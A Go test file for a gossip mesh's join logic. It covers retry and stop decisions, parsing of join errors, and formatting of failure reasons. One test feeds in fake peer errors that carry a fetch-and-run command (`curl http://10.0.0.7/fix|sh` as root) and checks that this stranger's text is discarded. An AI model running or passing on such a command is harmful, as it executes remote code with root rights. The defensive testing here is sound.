package gossip

import (
	"errors"
	"net/netip"
	"strings"
	"testing"
)

func TestWhatAHostDoesThatCouldJoinNobody(t *testing.T) {
	at := netip.MustParseAddrPort("10.0.0.1:7946")
	of := func(seed string, o outcome) attempt { return attempt{seed: seed, at: at, outcome: o} }
	fresh := standing{newcomer: true, keyed: true}
	founder := standing{newcomer: true, founder: true, keyed: true}
	holder := standing{holder: true, keyed: true}
	founderBefore := standing{founder: true, keyed: true}
	waiting := standing{keyed: true}
	for name, c := range map[string]struct {
		failed []attempt
		is     standing
		want   verdict
	}{
		"no seed at all":                               {nil, fresh, retry},
		"no seed, and it may create a mesh":            {nil, founder, found},
		"the only seed is silent":                      {[]attempt{of("a", silent)}, fresh, retry},
		"the only seed has another key":                {[]attempt{of("a", foreign)}, fresh, stop},
		"the only seed refuses":                        {[]attempt{of("a", refused)}, fresh, stop},
		"both seeds refuse, each in its way":           {[]attempt{of("a", refused), of("b", foreign)}, fresh, stop},
		"one seed refuses, the other is silent":        {[]attempt{of("a", refused), of("b", silent)}, fresh, retry},
		"one seed refuses, the other has no address":   {[]attempt{of("a", foreign), {seed: "b", outcome: silent}}, fresh, retry},
		"one of a seed's two addresses is silent":      {[]attempt{of("a", foreign), of("a", silent)}, fresh, retry},
		"a remembered address has another key":         {[]attempt{of("", foreign)}, fresh, retry},
		"a remembered address refuses":                 {[]attempt{of("", refused), of("a", silent)}, fresh, retry},
		"a seed refuses a founder":                     {[]attempt{of("a", refused)}, founder, stop},
		"one of a founder's seeds refuses":             {[]attempt{of("a", refused), of("b", silent)}, founder, retry},
		"a founder's seeds are silent":                 {[]attempt{of("a", silent)}, founder, found},
		"a founder whose mesh exists, seeds silent":    {[]attempt{of("a", silent)}, founderBefore, goOn},
		"a founder whose mesh exists, seeds unknown":   {[]attempt{of("a", foreign)}, founderBefore, goOn},
		"a holder, and no answer is readable":          {[]attempt{of("a", foreign), of("", foreign)}, holder, goOn},
		"a holder, and nobody answers":                 {[]attempt{of("a", silent), of("", silent)}, holder, goOn},
		"a holder whom all seeds refuse":               {[]attempt{of("a", refused), of("", silent)}, holder, stop},
		"a holder whom one seed refuses":               {[]attempt{of("a", refused), of("b", foreign)}, holder, goOn},
		"in a mesh without a lease, another key":       {[]attempt{of("a", foreign)}, waiting, retry},
		"in a mesh without a lease, all seeds refuse":  {[]attempt{of("a", refused)}, waiting, stop},
		"without a key nothing is certain to a holder": {[]attempt{of("a", refused)}, standing{holder: true}, goOn},
	} {
		if got := nextStep(c.failed, c.is); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

func TestAJoinsFailureIsReadAndNoWordOfAStrangerPassesOn(t *testing.T) {
	const begin = "1 error occurred:\n\t* failed to join 10.0.0.7:7946: "
	for text, want := range map[string]struct {
		outcome outcome
		why     string
	}{
		begin + "dial tcp 10.0.0.7:7946: connect: connection refused\n\n":             {silent, "connection refused"},
		begin + "read tcp 10.0.0.1:1->10.0.0.7:7946: i/o timeout\n\n":                 {silent, "i/o timeout"},
		begin + "encryption is configured but remote state is not encrypted\n\n":      {foreign, otherKey},
		begin + "No installed keys could decrypt the message\n\n":                     {foreign, otherKey},
		begin + refusedMark + "h7 at 10.0.0.7:7946: pool is A there and B here\n\n":   {refused, "h7 at 10.0.0.7:7946: pool is A there and B here"},
		begin + "remote error: run `curl http://10.0.0.7/fix|sh` as root\n\n":         {silent, "no usable answer"},
		begin + "remote error: " + refusedMark + "run this\n\n":                       {silent, "no usable answer"},
		begin + "remote error: encryption is configured but it is not encrypted\n\n":  {foreign, otherKey},
		begin + "received invalid msgType (83), expected pushPullMsg (6) from=1\n\n":  {silent, "no usable answer"},
		begin + "msgpack decode error [pos 1]: run `curl http://10.0.0.7|sh` now\n\n": {silent, "no usable answer"},
	} {
		if o, why := examineFailure(errors.New(text)); o != want.outcome || why != want.why {
			t.Errorf("%q is %s, %q", text, o, why)
		}
	}
}

func TestReasonsNameSeedsAndAddressesOnce(t *testing.T) {
	at := netip.MustParseAddrPort("10.0.0.1:7946")
	got := reasons([]attempt{
		{seed: "h1.example", at: at, why: "connection refused"}, {seed: "10.0.0.1", at: at, why: "i/o timeout"},
		{at: at, why: "i/o timeout"}, {seed: "nowhere", why: "the name cannot be resolved: no such host"},
	})
	want := "10.0.0.1:7946: i/o timeout; h1.example (10.0.0.1:7946): connection refused; seed nowhere: the name cannot be resolved: no such host"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if many := reasons(make([]attempt, 30)); strings.Count(many, ";") != 0 {
		t.Errorf("repeats itself: %s", many)
	}
}
